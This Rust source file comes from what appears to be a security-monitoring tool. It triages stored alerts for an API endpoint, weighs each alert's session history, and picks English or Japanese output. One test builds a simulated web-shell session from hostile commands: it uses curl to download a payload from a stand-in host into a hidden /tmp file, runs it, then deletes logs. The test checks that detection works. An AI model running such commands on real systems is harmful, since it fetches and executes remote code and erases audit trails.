//! quell's triage of one stored alert, for `GET /api/v1/alerts/{id}`: quell-triage's
//! verdict, score, reasons and what to confirm, in English or Japanese, with the decisions
//! people recorded in the store as history.

use quell_rules::engine::Engine;
use quell_triage::catalogue::Catalogue;
use quell_triage::history::History;
use quell_triage::{Lang, Triage};
use serde_json::{json, Value as Json};

/// The language asked for: `?lang=` (`en`, `ja`) first, else the `Accept-Language` header
/// (the preferred of English and Japanese by quality), else English.
pub fn language(query: Option<&str>, accept_language: Option<&str>) -> Result<Lang, String> {
    if let Some(q) = query {
        return Lang::parse(q).ok_or_else(|| "`lang` is `en` or `ja`".to_string());
    }
    let mut best: Option<(f32, Lang)> = None;
    for item in accept_language.unwrap_or("").split(',') {
        let mut parts = item.split(';');
        let tag = parts.next().unwrap_or("").trim().to_ascii_lowercase();
        let q = parts
            .find_map(|p| p.trim().strip_prefix("q=").map(str::to_string))
            .and_then(|v| v.parse::<f32>().ok())
            .unwrap_or(1.0);
        let primary = tag.split('-').next().unwrap_or("");
        let Some(lang) = Lang::parse(primary) else {
            continue;
        };
        if q > 0.0 && best.is_none_or(|(bq, _)| q > bq) {
            best = Some((q, lang));
        }
    }
    Ok(best.map_or(Lang::En, |(_, l)| l))
}

/// The triage of the alert whose JSON text is `raw`, with `history` (JSON lines of decided
/// alerts, [`quell_store::Store::decisions_as_history`]). `None` when triage finds no alert
/// in it (it cannot happen for a stored alert, which names its rule).
///
/// A `quell.decision` the sender put in the alert itself is ignored: only decisions people
/// recorded in the store reach triage.
pub fn judge(
    engine: &Engine,
    catalogue: &Catalogue,
    raw: &str,
    history: &[String],
    lang: Lang,
) -> Option<Json> {
    judge_with(
        engine,
        catalogue,
        raw,
        None,
        &history_of(engine, history),
        lang,
    )
}

/// The history triage reads, built once from the decided alerts' lines (what several
/// judgments against one state of the decisions share).
pub fn history_of(engine: &Engine, history: &[String]) -> History {
    let past: Vec<_> = history
        .iter()
        .enumerate()
        .filter_map(|(i, line)| quell_triage::input::parse_line(line, i + 1, "history").ok())
        .collect();
    if past.is_empty() {
        History::empty()
    } else {
        History::build(engine, &past)
    }
}

/// [`judge`] with a history already built and the alert's event context (a quell sensor's:
/// the process's lineage and fields the alert's output lacks, added as
/// [`quell_store::behaviour::alert_event`] does for the cluster key).
pub fn judge_with(
    engine: &Engine,
    catalogue: &Catalogue,
    raw: &str,
    context: Option<&Json>,
    hist: &History,
    lang: Lang,
) -> Option<Json> {
    let records = alert_records(raw, context, 1, "alert")?;
    let at = records.len() - 1;
    let hostname = records[at].hostname.clone().unwrap_or_default();
    let triage = Triage {
        engine,
        catalogue,
        history: hist,
        lang,
        hostname: &hostname,
    };
    let report = triage
        .run(&records)
        .into_iter()
        .find(|r| r.members.contains(&at))?;
    Some(json!({
        "lang": match lang { Lang::En => "en", Lang::Ja => "ja" },
        "verdict": report.verdict.as_str(),
        "verdict_text": report.verdict.text(lang),
        "score": report.score,
        "summary": report.summary,
        "reasons": report.reasons,
        "confirm": report.confirm,
        "anchor": report.anchor,
        "cluster": report.cluster,
    }))
}

/// A stored alert as triage records: the session's recent process starts its event context
/// carries ([`with_context`]), then the alert itself with the context's process fields and
/// lineage added (last, line `first_line`). A `quell.decision` its sender wrote is dropped. `None` when `raw` is no alert
/// triage can read.
///
/// Triage then weighs what the session ran before the alert (the web shell's download
/// before its `rm`), as `quell triage` does over a recording: judged alone, the alert of an
/// attack session and a person's identical act look alike.
pub fn alert_records(
    raw: &str,
    context: Option<&Json>,
    first_line: usize,
    what: &str,
) -> Option<Vec<quell_triage::Record>> {
    let mut record = quell_triage::input::parse_line(raw, first_line, what).ok()?;
    record.decision = None;
    let mut out = match context {
        Some(ctx) => with_context(&mut record, ctx),
        None => Vec::new(),
    };
    out.push(record);
    Some(out)
}

/// Adds the event context `ctx` to the alert `record` (its process fields and lineage) and
/// returns the session's recent process starts it carries, as plain events to put before
/// the alert (numbered with the alert's line: they are its context).
pub fn with_context(record: &mut quell_triage::Record, ctx: &Json) -> Vec<quell_triage::Record> {
    quell_store::behaviour::add_context(&mut record.event, ctx);
    quell_store::behaviour::session_starts(ctx, &record.event)
        .into_iter()
        .map(|event| quell_triage::Record {
            event,
            rule: None,
            hostname: record.hostname.clone(),
            decision: None,
            line: record.line,
            raw_alert: None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the session ran before the alert (its context's process starts) reaches triage:
    /// a deletion whose lineage shows nothing but a shell is likely real after that shell's
    /// download and run of a hidden file in /tmp, and not without them.
    #[test]
    fn the_contexts_session_starts_are_weighed() {
        let mut engine = Engine::new();
        let loaded = engine.load(
            "r.yaml",
            "- rule: Clear Log Activities\n  desc: d\n  condition: evt.type = unlinkat and fs.path.name startswith /var/log/\n  output: o (file=%fs.path.name)\n  priority: WARNING\n",
        );
        assert!(loaded.successful);
        let catalogue = Catalogue::builtin();
        let raw = json!({
            "rule": "Clear Log Activities", "priority": "Warning", "hostname": "h",
            "time": "2026-12-06T10:00:10.000000000Z", "output": "o",
            "output_fields": {"evt.type": "unlinkat", "proc.name": "rm",
                "proc.cmdline": "rm -f /var/log/dpkg.log", "proc.pname": "sh",
                "fs.path.name": "/var/log/dpkg.log", "container.id": "c0ffee123456"}
        })
        .to_string();
        let t = 1_796_551_210_000_000_000u64;
        let start = |dt: u64, pid: i64, exe: &str, cmd: &str| json!({"time_ns": t - dt, "pid": pid, "ppid": 110, "exepath": exe, "cmdline": cmd, "user": "www-data"});
        let mut ctx = json!({
            "process": {"proc.sid": 77, "proc.pid": 120, "proc.ppid": 110, "user.name": "www-data",
                "container.id": "c0ffee123456", "evt.type": "unlinkat"},
            "lineage": [{"level": 0, "pid": 120, "name": "rm"},
                        {"level": 1, "pid": 110, "name": "sh", "cmdline": "sh"}],
            "session": {"sid": 77, "recent_starts": [
                start(3_000_000_000, 111, "/usr/bin/curl", "curl -s -o /tmp/.update http://203.0.113.9/payload"),
                start(2_000_000_000, 112, "/usr/bin/chmod", "chmod +x /tmp/.update"),
                start(1_000_000_000, 113, "/tmp/.update", "/tmp/.update"),
            ]}
        });
        let hist = History::empty();
        let verdict = |ctx: &Json| {
            judge_with(&engine, &catalogue, &raw, Some(ctx), &hist, Lang::En).unwrap()["verdict"]
                .clone()
        };
        assert_eq!(verdict(&ctx), "likely_real");
        ctx["session"]["recent_starts"] = json!([]);
        assert_ne!(verdict(&ctx), "likely_real");
    }

    #[test]
    fn language_from_query_then_header() {
        assert_eq!(language(Some("ja"), Some("en")), Ok(Lang::Ja));
        assert!(language(Some("fr"), None).is_err());
        assert_eq!(language(None, None), Ok(Lang::En));
        assert_eq!(
            language(None, Some("ja-JP,ja;q=0.9,en;q=0.8")),
            Ok(Lang::Ja)
        );
        assert_eq!(language(None, Some("fr, en;q=0.5, ja;q=0.4")), Ok(Lang::En));
        assert_eq!(language(None, Some("en;q=0.2, JA;q=0.7")), Ok(Lang::Ja));
        assert_eq!(language(None, Some("ja;q=0, de")), Ok(Lang::En));
        assert_eq!(language(None, Some(";;;q=x,\u{1b}")), Ok(Lang::En));
    }
}
